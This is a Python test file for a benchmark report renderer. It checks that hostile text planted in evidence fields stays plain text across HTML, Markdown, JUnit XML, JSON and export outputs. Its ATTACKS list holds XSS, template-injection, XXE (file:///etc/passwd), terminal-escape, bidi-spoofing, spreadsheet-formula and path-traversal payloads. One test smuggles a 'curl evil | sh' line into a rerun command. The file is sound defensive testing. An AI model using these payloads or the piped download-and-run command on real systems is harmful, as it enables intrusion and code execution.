"""Whatever the evidence says stays text: planted everywhere, hostile text leaves the structure of no output changed."""

from __future__ import annotations

import json
import re
import unicodedata
from collections.abc import Iterator
from functools import cache
from html.parser import HTMLParser
from types import ModuleType
from typing import Any, Literal, get_args, get_origin
from xml.etree import ElementTree as ET

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from pydantic import BaseModel

from nesproof.harness.evidence import Evidence
from nesproof.harness.evidence.model import RatioMeasurement
from nesproof.reports import render
from nesproof.reports.export import export
from nesproof.reports.format import Material
from nesproof.reports.plain_text import one_line, plain, plain_evidence

ATTACKS = (
    "<script>alert(1)</script>",
    "</style></script><svg onload=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    "{{ 7 * 7 }}{% raw %}{# x #}${7*7}",
    "]]>&lt;!ENTITY x SYSTEM 'file:///etc/passwd'>&x;",
    "\x1b[31mred\x1b]8;;https://example.com\x07link\x1b]8;;\x07\x1b[2J",
    "\u202egnp.exe\u202c \u2066x\u2069\ufeff",
    "a | b | c\n|---|---|\n| d |",
    "@everyone @org/team #1 GH-2 https://example.com www.example.com a@example.com",
    "![x](https://example.com/x.png) [y](javascript:alert(1)) <https://example.com>",
    "```\n`` ` ``` ~~~ ` \\` \\",
    "**bold** _it_ ~~no~~ # head\n# head\n- item\n> quote\n\n---\n===\n1. one",
    "\\|\\\\|&#124;&vert;&#x7c;",
    "<!-- --> <details> </details> </table> </sub>",
    "=cmd()|' /C calc'!A0",
    "\x00\x07\x08\x0b\x7f\x85\u2028\u2029\r\n\ufffe\uffff",
    "\ud800\udfff lone \udc80",
    "../../etc/passwd",
    "%s %n {0} {value}",
    " ",
)
PIECES = ("<", ">", "&", '"', "'", "`", "|", "\\", "\n", "*", "_", "[", "](", "@a", "://", "www.", "{{", "}}", "{%",
          "]]>", "<!--", "-->", "\x1b[", "\u202e", "\ud800", "\x00", "~~~", "#1", "$", "\t", " ", "é")  # fmt: skip
HOSTILE = st.one_of(  # beside the known attacks, each of which has a test of its own
    st.lists(st.sampled_from(PIECES), min_size=1, max_size=30).map("".join),
    st.text(st.characters(codec=None), min_size=1, max_size=60),
)
TEXT_KEPT = "\n\t\u200c\u200d"


def planted(value: Any, text: str) -> Any:
    """The value with `text` in place of every string that is not one of a fixed set of words."""
    if isinstance(value, BaseModel):
        fields = type(value).model_fields
        return value.model_copy(
            update={n: planted(getattr(value, n), text) for n, f in fields.items() if not is_fixed(f.annotation)}
        )
    if isinstance(value, tuple):
        return tuple(planted(v, text) for v in value)
    if isinstance(value, dict):
        return {planted(k, text): planted(v, text) for k, v in value.items()}
    return text if type(value) is str else value


def is_fixed(annotation: Any) -> bool:
    return get_origin(annotation) is Literal or any(get_origin(a) is Literal for a in get_args(annotation))


@pytest.fixture(scope="module")
def small(sample: ModuleType) -> Evidence:
    """The invented run with four short blocks in one timed claim, so that each example is quick."""
    evidence: Evidence = sample.sample_evidence()
    claims = [
        c.model_copy(update={"measurement": short(c.measurement)}) if isinstance(c.measurement, RatioMeasurement) else c
        for c in evidence.claims
        if c.claim.id != "throughput.reference.busy"
    ]
    return evidence.model_copy(update={"claims": tuple(claims)})


def short(measurement: RatioMeasurement) -> RatioMeasurement:
    samples = tuple(s for s in measurement.samples if s.block < 4 and s.run < 2)
    return measurement.model_copy(update={"samples": samples})


class Structure(HTMLParser):
    """Tags with their attribute names, and the text between them. What a browser would not parse as HTML is apart."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, tuple[str, ...]]] = []
        self.text: list[str] = []
        self.others: list[str] = []
        self.drawing_depth = 0

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        names = {name: value or "" for name, value in attrs}
        if names.get("class") == "drawing":
            self.drawing_depth = 1
        elif self.drawing_depth and tag == "div":
            self.drawing_depth += 1
        if self.drawing_depth and tag != "div":
            assert tag in {"svg", "g", "path", "line", "text", "rect", "tspan"}
            assert not any(name.startswith("on") or name in {"href", "style", "id", "class"} for name in names)
        else:
            self.tags.append((tag, tuple(names)))

    def handle_endtag(self, tag: str) -> None:
        if self.drawing_depth and tag == "div":
            self.drawing_depth -= 1
        if not self.drawing_depth:
            self.tags.append(("/" + tag, ()))

    def handle_data(self, data: str) -> None:
        self.text.append(data)

    def handle_comment(self, data: str) -> None:
        self.others.append(data)

    def handle_decl(self, decl: str) -> None:
        self.others.append(decl)

    def handle_pi(self, data: str) -> None:
        self.others.append(data)


def html_structure(page: bytes) -> tuple[list[Any], list[str], str]:
    parser = Structure()
    parser.feed(page.decode())
    parser.close()
    return parser.tags, parser.others, "".join(parser.text)


def markdown_structure(document: bytes) -> tuple[list[Any], list[str], list[str]]:
    structure: list[Any] = []
    texts, codes = [], []
    for token in MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"]).parse(document.decode()):
        structure.append((token.type, token.tag, token.content if token.type == "html_block" else ""))
        for child in token.children or ():
            if child.type in {"text", "text_special"}:
                texts.append(child.content)
            elif child.type == "code_inline":
                codes.append(child.content)
                structure.append(child.type)
            else:
                structure.append((child.type, child.content if child.type == "html_inline" else ""))
    return structure, texts, codes


def xml_structure(document: bytes) -> list[Any]:
    return [(e.tag, tuple(e.attrib)) for e in ET.fromstring(document).iter()]


def json_structure(value: Any) -> Any:
    if isinstance(value, dict):
        return [json_structure(v) for v in value.values()]
    return [json_structure(v) for v in value] if isinstance(value, list) else type(value).__name__


@cache
def benign(evidence_json: str) -> dict[str, bytes]:
    return render(planted(Evidence.model_validate_json(evidence_json), "benign"), frames_dir=None, bundle_id="benign")


@settings(max_examples=24, deadline=None, suppress_health_check=list(HealthCheck))
@given(text=HOSTILE)
def test_hostile_text_stays_text(small: Evidence, text: str) -> None:
    check_stays_text(small, text)


@pytest.mark.parametrize("text", ATTACKS, ids=range(len(ATTACKS)))
def test_known_attack_stays_text(small: Evidence, text: str) -> None:
    check_stays_text(small, text)


def check_stays_text(small: Evidence, text: str) -> None:
    files = render(planted(small, text), frames_dir=None, bundle_id=text)
    calm = benign(small.model_dump_json())
    shown = plain(text)

    for name, data in files.items():
        for character in set(data.decode()):
            allowed = TEXT_KEPT + ("\u2060" if name == "report.md" else "")
            assert character in allowed or unicodedata.category(character) not in {"Cc", "Cf", "Cs", "Zl", "Zp"}

    tags, others, page_text = html_structure(files["report.html"])
    calm_tags, calm_others, _ = html_structure(calm["report.html"])
    assert tags == calm_tags
    assert others == calm_others
    if len(shown) <= 4_000:
        assert shown in page_text

    structure, texts, codes = markdown_structure(files["report.md"])
    calm_structure, _, _ = markdown_structure(calm["report.md"])
    assert structure == calm_structure
    for part in texts:
        assert not re.search(r"@\w|https?://|www\.\w|#\d|\bGH-\d", part, re.IGNORECASE)
    if shown.strip(" ") and len(shown) <= 500:
        assert any(one_line(shown).strip(" ") == found.strip(" ") for found in codes)

    assert xml_structure(files["junit.xml"]) == xml_structure(calm["junit.xml"])
    failure = ET.fromstring(files["junit.xml"]).find(".//testcase/failure[@type='failed']")
    assert failure is not None
    assert failure.text == shown

    summary = json.loads(files["report.json"].decode("ascii"))
    assert json_structure(summary) == json_structure(json.loads(calm["report.json"]))
    assert summary["claims"][0]["reason"] == shown


def strings_of(value: Any) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, (list, dict)):
        yield from value if isinstance(value, dict) else ()
        for part in value.values() if isinstance(value, dict) else value:
            yield from strings_of(part)


@pytest.mark.parametrize("text", ATTACKS, ids=range(len(ATTACKS)))
def test_known_attack_stays_text_in_what_other_programs_get(small: Evidence, text: str) -> None:
    material = Material(plain_evidence(planted(small, text)), frames_dir=None, bundle_id=plain(text))
    for form in ("bencher", "benchmark-action", "in-toto", "shields"):
        files = export(material, form)
        assert files
        for name, data in files.items():
            assert re.fullmatch(r"[A-Za-z0-9@._-]{1,220}\.json", name)
            assert ".." not in name
            for shown in strings_of(json.loads(data)):
                assert all(c in TEXT_KEPT or c.isprintable() for c in shown)
                assert form != "shields" or (shown.isprintable() and len(shown) <= 80)


@pytest.mark.parametrize("piece", ["<b>", "\u0301", "`|", "\x00", "{{"])
def test_64_thousand_characters_stay_text(small: Evidence, piece: str) -> None:
    files = render(planted(small, (piece * 64_000)[:64_000]), frames_dir=None)
    calm = render(planted(small, "benign"), frames_dir=None)
    assert html_structure(files["report.html"])[:2] == html_structure(calm["report.html"])[:2]
    assert xml_structure(files["junit.xml"]) == xml_structure(calm["junit.xml"])
    assert json_structure(json.loads(files["report.json"])) == json_structure(json.loads(calm["report.json"]))
    assert len(files["report.md"].decode()) < 65_536
    rows = markdown_structure(files["report.md"])[0].count(("tr_open", "tr", ""))
    assert 1 + len(small.claims) <= rows <= markdown_structure(calm["report.md"])[0].count(("tr_open", "tr", ""))


def test_a_table_row_stays_one_row(small: Evidence) -> None:
    text = render(planted(small, "a | b\n| c |"), frames_dir=None)["report.md"].decode()
    tokens = MarkdownIt("commonmark").enable("table").parse(text)
    rows = [t for t in tokens if t.type == "tr_open"]
    faults = small.falsification.faults if small.falsification is not None else ()
    assert len(rows) == 3 + len(small.claims) + len(small.suites) + len(faults)


@pytest.mark.parametrize(
    ("given_text", "wanted"),
    [
        ("plain", "plain"),
        ("\x1b[1;31mred\x1b[0m", "red"),
        ("\x1b]0;title\x07x", "x"),
        ("a\r\nb\rc", "a\nb\nc"),
        ("\u202eabc", r"\u202eabc"),
        ("\x00\x9b", r"\x00\x9b"),
        ("\ud83d", r"\ud83d"),
        ("\U000e0041", r"\U000e0041"),
        ("Zelda ゼルダ ☆", "Zelda ゼルダ ☆"),
    ],
)
def test_plain_spells_out_what_cannot_be_seen(given_text: str, wanted: str) -> None:
    assert plain(given_text) == wanted


@given(st.text(st.characters(codec=None), max_size=80))
@example("\x1b\x1b[31m[31m")
def test_plain_text_is_stable_and_encodable(text: str) -> None:
    assert plain(plain(text)) == plain(text)
    plain(text).encode()


def test_a_command_stays_on_one_line(small: Evidence) -> None:
    hostile = small.claims[0].model_copy(update={"rerun": "nesproof verify\ncurl evil | sh\n"})
    files = render(small.model_copy(update={"claims": (hostile,)}), frames_dir=None)
    assert r"<code>nesproof verify\ncurl evil | sh\n</code>" in files["report.html"].decode()
